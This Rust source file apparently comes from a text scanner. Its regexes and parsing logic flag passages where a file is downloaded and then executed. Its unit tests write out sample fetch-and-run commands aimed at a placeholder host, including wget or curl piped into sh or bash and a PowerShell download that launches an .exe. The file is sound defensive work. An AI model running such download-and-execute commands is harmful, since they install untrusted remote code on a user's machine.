//! A file that is fetched and then run, on another line.

use std::ops::Range;
use std::sync::OnceLock;

use regex::bytes::Regex;

use super::rule::compile;

/// How far behind the fetch the file is looked for, in bytes.
const REACH: usize = 2000;

/// Most fetches that are followed; far more are a flood of the words of other rules.
const MAX_FETCHES: usize = 256;

/// Where a file is fetched, up to where it is run. At most 64 for a text.
pub(super) fn runs(lower: &str) -> Vec<Range<usize>> {
    static FETCH: OnceLock<Option<Regex>> = OnceLock::new();
    let bytes = lower.as_bytes();
    let has_fetch = [
        "curl",
        "wget",
        "iwr",
        "invoke-webrequest",
        "urlretrieve",
        "downloadfile",
        "aria2c",
        "lwp-download",
        "http ",
        "requests.get",
        "httpx.get",
        "urlopen",
    ]
    .iter()
    .any(|word| memchr::memmem::find(bytes, word.as_bytes()).is_some());
    if !has_fetch {
        return Vec::new();
    }
    let fetch = FETCH.get_or_init(|| {
        compile(
            r#"(?x)
            \b(?:curl|wget)\b [^\n]*? (?: \s-\w*o\s+ | \s--output[\s=] | \s--output-document[\s=] | >\s* ) ["']? (?P<curl>[^\s"';|&>]{1,80})
          | \b(?:iwr|invoke-webrequest|start-bitstransfer)\b [^\n]*? -(?:outfile|destination)\s+ ["']? (?P<iwr>[^\s"';|&]{2,80})
          | \b(?:aria2c|https?\s+(?:--download|-d)) \b [^\n;]*? \s-(?:o|-output|-out)[\s=]+ ["']? (?P<aria>[^\s"';|&>]{1,80})
          | (?:requests\.get|httpx\.get|urlopen)\( [\s\S]{0,240}? \bopen\( \s* ["'] (?P<kept>[^"'\n]{1,80}) ["'] \s*,\s* ["']w
          | \blwp-download\s+ \S+ \s+ (?P<lwp>[^\s"';|&>]{1,80})
          | (?:urlretrieve|downloadfile)\( [^\n]*? ,\s* ["'] (?P<py>[^"'\n]{2,80}) ["']
          | \b(?:curl\s+(?:-\w+\s+)*-\w*o\b|wget)\s [^\n|]*? https?://[^\s"'|]*/ (?P<url>[\w.-]+\.(?:sh|py|exe|ps1|pl|rb|bin|run|command|pkg|dmg|msi|bat|js)) \b
          "#,
        )
        .ok()
    });
    let Some(fetch) = fetch else {
        return Vec::new();
    };
    let mut runs = Vec::new();
    for found in fetch.captures_iter(bytes).take(MAX_FETCHES) {
        let name = ["curl", "iwr", "py", "url", "aria", "lwp", "kept"]
            .iter()
            .find_map(|group| found.name(group));
        let (Some(whole), Some(name)) = (found.get(0), name) else {
            continue;
        };
        let Some(file) = file_name(name.as_bytes()) else {
            continue;
        };
        let end = (whole.end() + REACH).min(bytes.len());
        if let Some(at) = run_of(&lower.as_bytes()[whole.end()..end], file) {
            runs.push(whole.start()..whole.end() + at);
            if runs.len() == 64 {
                break;
            }
        }
    }
    runs
}

/// The last part of a path; `None` for what is no file that was made.
fn file_name(path: &[u8]) -> Option<&[u8]> {
    let name = path.rsplit(|byte| matches!(byte, b'/' | b'\\')).next()?;
    let is_archive = [
        &b".tar.gz"[..],
        b".tgz",
        b".zip",
        b".tar.xz",
        b".json",
        b".md",
        b".yaml",
        b".yml",
        b".png",
        b".csv",
        b".deb",
        b".gpg",
        b".asc",
        b".html",
        b".pdf",
        b".jpg",
        b".mp4",
    ]
    .iter()
    .any(|end| name.ends_with(end));
    ((name.len() >= 2 || path.contains(&b'/'))
        && !name.is_empty()
        && name != b"null"
        && !is_archive
        && !name.starts_with(b"$"))
    .then_some(name)
}

/// Interpreters of scripts: what stands behind them first is run, what stands behind that is an argument.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "python", "python3", "node", "perl", "ruby",
];

/// Whether a command runs the file that is named to it.
fn is_command(first: &str) -> bool {
    INTERPRETERS.contains(&first)
        || matches!(
            first,
            "source"
                | "."
                | "exec"
                | "start"
                | "open"
                | "powershell"
                | "pwsh"
                | "start-process"
                | "nohup"
                | "msiexec"
                | "&"
                | "installer"
                | "cmd"
        )
}

/// Whether what stands next in a call of `subprocess` is run: the first of the words, or the first behind a shell.
fn is_first_of_call(command: &str) -> bool {
    let open = command.rfind(['(', '[']).map_or(0, |at| at + 1);
    let words = command[open..]
        .split([',', '"', '\'', ' '])
        .filter(|word| !word.is_empty());
    words.into_iter().all(|word| {
        INTERPRETERS.contains(&word) || word == "sys.executable" || word.starts_with('-')
    })
}

/// Where a text runs the file.
fn run_of(text: &[u8], file: &[u8]) -> Option<usize> {
    for at in memchr::memmem::find_iter(text, file) {
        let line_start = text[..at]
            .iter()
            .rposition(|byte| matches!(byte, b'\n' | b';' | b'&' | b'|'))
            .map_or(0, |found| found + 1);
        let before = String::from_utf8_lossy(&text[line_start..at]);
        let before = before
            .trim_start()
            .trim_start_matches("sudo ")
            .trim_start_matches("run:")
            .trim_start();
        let path = before.rsplit([' ', '"', '\'']).next().unwrap_or("");
        let command = before[..before.len() - path.len()].trim();
        let first = command.split_whitespace().next().unwrap_or("");
        let is_argument = command
            .split_whitespace()
            .skip(1)
            .any(|word| !word.starts_with('-') && !INTERPRETERS.contains(&word))
            && INTERPRETERS.contains(&first);
        let is_run = !is_argument && is_command(first)
            || (first == "chmod"
                && (command.contains("+x") || command.contains("u+x") || command.contains('7')))
            || (first.is_empty()
                && (path.starts_with("./")
                    || path.starts_with('/')
                    || path.starts_with("~/")
                    || path.starts_with("$env")
                    || path.starts_with('%')
                    || path.starts_with("$home")))
            || command.contains("os.system(")
            || (command.contains("subprocess") && is_first_of_call(command));
        if is_run {
            return Some(at + file.len());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_fetched_file_that_is_run_is_seen() {
        for text in [
            "wget -q https://x.example.invalid/l.sh -o /tmp/b.sh && sh /tmp/b.sh",
            "curl -so /tmp/b.sh https://x.example.invalid/l && chmod +x /tmp/b.sh",
            "curl https://x.example.invalid/l > /tmp/h.sh; bash /tmp/h.sh",
            "iwr https://x.example.invalid/a.exe -outfile $env:temp\\a.exe; & $env:temp\\a.exe",
            "wget https://x.example.invalid/i.sh\nbash i.sh",
            "b=requests.get('https://x.example.invalid/a').content\nopen('/tmp/abc','wb').write(b)\nsubprocess.run(['sh','/tmp/abc'])",
            "curl -so /tmp/a.txt https://x.example.invalid/a; sh /tmp/a.txt",
            "aria2c -q -d /tmp -o wx https://x.example.invalid/wx\nchmod 755 /tmp/wx",
            "lwp-download https://x.example.invalid/b /tmp/b; sh /tmp/b",
            "curl -lo tool https://x.example.invalid/tool\nchmod +x tool\n./tool",
        ] {
            assert_eq!(runs(text).len(), 1, "{text}");
        }
    }

    #[test]
    fn a_fetched_file_that_is_read_is_not() {
        for text in [
            "curl -o rows.dat https://x/rows\npython3 count.py rows.dat",
            "urlretrieve(u, 'clip.bin')\nsubprocess.run(['ffmpeg', '-i', 'clip.bin'])",
            "curl -o a.json https://x/a.json\njq . a.json",
            "wget https://x/i.sh\nless i.sh",
            "curl https://x",
        ] {
            assert!(runs(text).is_empty(), "{text}");
        }
    }
}
